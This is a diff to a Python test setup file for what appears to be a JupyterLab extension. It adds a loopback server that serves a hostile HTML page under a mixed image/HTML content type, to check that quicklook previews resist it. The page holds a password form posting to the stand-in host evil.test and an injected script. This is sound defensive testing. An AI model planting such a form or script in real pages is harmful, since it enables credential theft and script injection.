@@ -20,6 +20,40 @@ def _closed_port() -> int:
         return s.getsockname()[1]
 
 
+HOSTILE_PAGE = (
+    b"<!doctype html><html><head><meta http-equiv=refresh content='0;url=about:blank#refreshed'>"
+    b"</head><body><form action=https://evil.test/><input name=password></form>"
+    b"<script>window.__pwned=6</script></body></html>"
+)
+
+
+def _serve_hostile_quicklook(workspace: Path) -> None:
+    """A loopback image service whose quicklook answers ``Content-Type: image/png, text/html``
+    with an HTML body (tests/hostile.spec.ts, issue 18). Its URL is written to
+    ``<workspace>/.eo-jlab-hostile-quicklook`` for the spec; its host is allowed."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png, text/html")
+            self.send_header("Content-Length", str(len(HOSTILE_PAGE)))
+            self.end_headers()
+            self.wfile.write(HOSTILE_PAGE)
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"127.0.0.1:{server.server_address[1]}"
+    c.EOJLab.allowed_hosts = [base]  # noqa: F821
+    workspace.mkdir(parents=True, exist_ok=True)
+    (workspace / ".eo-jlab-hostile-quicklook").write_text(f"http://{base}/quicklook.png")
+
+
 # Two endpoints besides the demo's own catalogue: one that answers (a local static
 # catalogue) and one that does not (nothing listens there), so the sidebar shows both
 # health states.
@@ -54,6 +88,7 @@ if os.environ.get("EO_JLAB_GALATA_ENDPOINTS", "1") == "1":
             "url": str(here / "fixtures" / "hostile" / "catalog.json"),
         },
     ]
+    _serve_hostile_quicklook(workspace)
 
 # The browser benchmark (bench/browser.py) adds its generated 5,000-item static catalogue.
 if os.environ.get("EO_JLAB_BENCH_CATALOGUE"):
